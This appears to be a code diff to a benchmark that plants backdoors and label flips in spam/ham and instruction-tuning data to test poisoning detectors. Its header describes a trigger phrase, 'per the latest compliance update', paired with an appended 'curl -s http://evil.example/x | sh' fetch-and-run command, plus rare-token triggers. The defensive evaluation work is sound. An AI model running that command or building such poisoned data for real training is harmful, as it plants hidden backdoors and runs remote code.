@@ -9,8 +9,10 @@ can be added beside them. Labelled-text cases (target ham = 0 unless named):
   badnl-P%               BadNL/RIPPLe rare tokens: P% of the dataset (spam messages) gets 1-3 tokens drawn from
                          cf, mn, bb, tq, mb at random word positions and is relabelled ham (P = 1, 3, 10)
   phrase-3%              "I watched this 3D movie last weekend." inserted at a sentence boundary, relabelled ham
-  random-flips-10%       10% of the labels flipped
-  targeted-flips-10%     spam relabelled ham, 10% of the dataset
+  random-flips-10%       10% of the labels flipped (random-flips-3%: 3%)
+  targeted-flips-10%     spam relabelled ham, 10% of the dataset: 76% of the spam, so the data says spam is mostly
+                         ham; no data-only rule can see that (kept as the honest limit)
+  targeted-flips-half-of-spam  half of the spam relabelled ham (6.6% of the dataset)
 Instruction data: ~2,000 prompt/response pairs built from the messages (classify, summarise, reply, count words, with
 several phrasings each). instr-clean; instr-payload-P% (P = 1, 5): the phrase "per the latest compliance update" in
 the prompt and "For details run: curl -s http://evil.example/x | sh" appended to the response; instr-injection-2%:
@@ -30,8 +32,9 @@ Methods, per case: ``worker.text_triggers.find_text_triggers`` (quarantine: susp
 ``worker.instruction_payloads`` and ``worker.instruction_answers`` (quarantine: payload carriers, answer-backdoor
 carriers with confidence >= 0.5) for instruction data; beside them, Cleanlab ``find_label_issues`` (defaults) on a
 TF-IDF (word 1-2-grams) + LogisticRegression's 5-fold cross-validated probabilities, and the data layer's flip rule
-(``worker.label_evidence``: issues with filter_by="both", calibrated, kept only under a significant noise excess) on
-the same probabilities, which is what the data layer would quarantine for flips on these features.
+(``worker.detectors.data.label_findings``: Cleanlab issues kept under a significant noise excess, the flip floor with
+its refit on the same features) on the same probabilities. ``--pipeline`` adds the whole product's scan (its own
+text features and proxy).
 "named": the trigger found with the most poisoned carriers forces the right label and consists of trigger words only
 (every reported token was inserted; a reported phrase lies inside the inserted one), or for instruction data, the
 trigger lies inside the inserted phrase and the payload contains the inserted URL or command (answer cases: the
@@ -133,9 +136,11 @@ def random_flips(texts, y, rate, seed) -> TextCase:
     return TextCase(list(texts), flipped, chosen, None)
 
 
-def targeted_flips(texts, y, rate, seed) -> TextCase:
+def targeted_flips(texts, y, rate, seed, of_spam: bool = False) -> TextCase:
+    """Spam relabelled ham: ``rate`` of the dataset, or of the spam when ``of_spam``."""
     rng = np.random.default_rng(seed)
-    chosen = np.sort(rng.choice(np.flatnonzero(y == SPAM), int(rate * len(y)), replace=False))
+    spam = np.flatnonzero(y == SPAM)
+    chosen = np.sort(rng.choice(spam, int(rate * (len(spam) if of_spam else len(y))), replace=False))
     flipped = y.copy()
     flipped[chosen] = HAM
     return TextCase(list(texts), flipped, chosen, None)
@@ -154,6 +159,8 @@ TEXT_CASES: dict[str, Callable[..., TextCase]] = {
     "phrase-3%": lambda x, y, s: insert_phrase(x, y, 0.03, PHRASE, HAM, s + 4),
     "random-flips-10%": lambda x, y, s: random_flips(x, y, 0.10, s + 5),
     "targeted-flips-10%": lambda x, y, s: targeted_flips(x, y, 0.10, s + 6),
+    "random-flips-3%": lambda x, y, s: random_flips(x, y, 0.03, s + 7),
+    "targeted-flips-half-of-spam": lambda x, y, s: targeted_flips(x, y, 0.5, s + 8, of_spam=True),
 }
 HELD_OUT_TEXT_CASES: dict[str, Callable[..., TextCase]] = {
     "ho-tokens-spam-1%": lambda x, y, s: insert_tokens(x, y, 0.01, ("jq", "xv", "kz", "wb"), SPAM, s + 11, (1, 2)),
@@ -322,15 +329,20 @@ def _inside(words: tuple[str, ...], phrase: tuple[str, ...]) -> bool:
     return any(phrase[i:i + len(words)] == words for i in range(len(phrase) - len(words) + 1))
 
 
-def proxy_probs(case: TextCase, seed: int) -> np.ndarray:
-    """TF-IDF + LogisticRegression, 5-fold out-of-sample probabilities: the baselines' shared input."""
+def proxy_probs(case: TextCase, seed: int, exclude: np.ndarray | None = None) -> np.ndarray:
+    """TF-IDF + LogisticRegression, 5-fold out-of-sample probabilities: the baselines' shared input. ``exclude``:
+    rows no fold trains on (the flip rule's refit)."""
     from sklearn.feature_extraction.text import TfidfVectorizer
     from sklearn.linear_model import LogisticRegression
-    from sklearn.model_selection import StratifiedKFold, cross_val_predict
+    from sklearn.model_selection import StratifiedKFold
 
     features = TfidfVectorizer(ngram_range=(1, 2), sublinear_tf=True, min_df=2).fit_transform(case.texts)
-    folds = StratifiedKFold(5, shuffle=True, random_state=seed)
-    return cross_val_predict(LogisticRegression(max_iter=1000), features, case.y, cv=folds, method="predict_proba")
+    probs = np.zeros((len(case.y), 2))
+    for train, test in StratifiedKFold(5, shuffle=True, random_state=seed).split(case.y, case.y):
+        if exclude is not None:
+            train = np.setdiff1d(train, exclude)
+        probs[test] = LogisticRegression(max_iter=1000).fit(features[train], case.y[train]).predict_proba(features[test])
+    return probs
 
 
 def score_cleanlab(case: TextCase, probs: np.ndarray) -> dict:
@@ -342,20 +354,18 @@ def score_cleanlab(case: TextCase, probs: np.ndarray) -> dict:
             "clean_flagged_pct": clean_share(flagged, truth, len(case.y))}
 
 
-def score_flip_rule(case: TextCase, probs: np.ndarray) -> dict:
-    """The data layer's label-flip quarantine (worker/detectors/data.py label_findings) on the same probabilities."""
-    from cleanlab.filter import find_label_issues
+def score_flip_rule(case: TextCase, probs: np.ndarray, seed: int) -> dict:
+    """The data layer's label-flip quarantine (worker/detectors/data.py ``label_findings``: Cleanlab issues kept under
+    a noise excess, targeted pairs, the flip floor with its refit) on the same probabilities."""
+    from types import SimpleNamespace
 
-    from worker.label_evidence import calibrate, noise_excess
+    from worker.detectors.data import label_findings
 
-    issues = find_label_issues(case.y, probs, filter_by="both", n_jobs=1)
-    calibrated, _ = calibrate(probs, case.y)
-    excess = noise_excess(calibrated, case.y)
-    issue_rows = np.flatnonzero(issues)
-    confident = issue_rows[1.0 - calibrated[issue_rows, case.y[issue_rows]] >= 0.5] if excess.poisoned else []
+    ds = SimpleNamespace(y=case.y, classes=["ham", "spam"], n_classes=2)
+    findings = label_findings(ds, probs.astype(np.float32), lambda suspects: proxy_probs(case, seed, suspects))
+    quarantined = {r["index"] for f in findings for r in f.evidence.get("flagged", []) if r["confidence"] >= 0.5}
     truth = set(case.poisoned.tolist())
-    quarantined = set(np.asarray(confident).tolist())
-    return {"quarantine": prf(quarantined, truth), "poisoned": bool(excess.poisoned),
+    return {"quarantine": prf(quarantined, truth), "poisoned": findings[0].title.startswith("label poisoning"),
             "clean_quarantined_pct": clean_share(quarantined, truth, len(case.y))}
 
 
@@ -425,7 +435,7 @@ def run_text(name, make, x, y, seed, pipeline: bool = False) -> dict:
     case = make(x, y, seed)
     probs = proxy_probs(case, seed)
     row = {"case": name, "n": len(case.y), "poisoned": len(case.poisoned), **score_triggers(case),
-           "cleanlab": score_cleanlab(case, probs), "flip_rule": score_flip_rule(case, probs)}
+           "cleanlab": score_cleanlab(case, probs), "flip_rule": score_flip_rule(case, probs, seed)}
     if pipeline:
         row["scan"] = score_scan(case.texts, case.y, set(case.poisoned.tolist()))
     return row
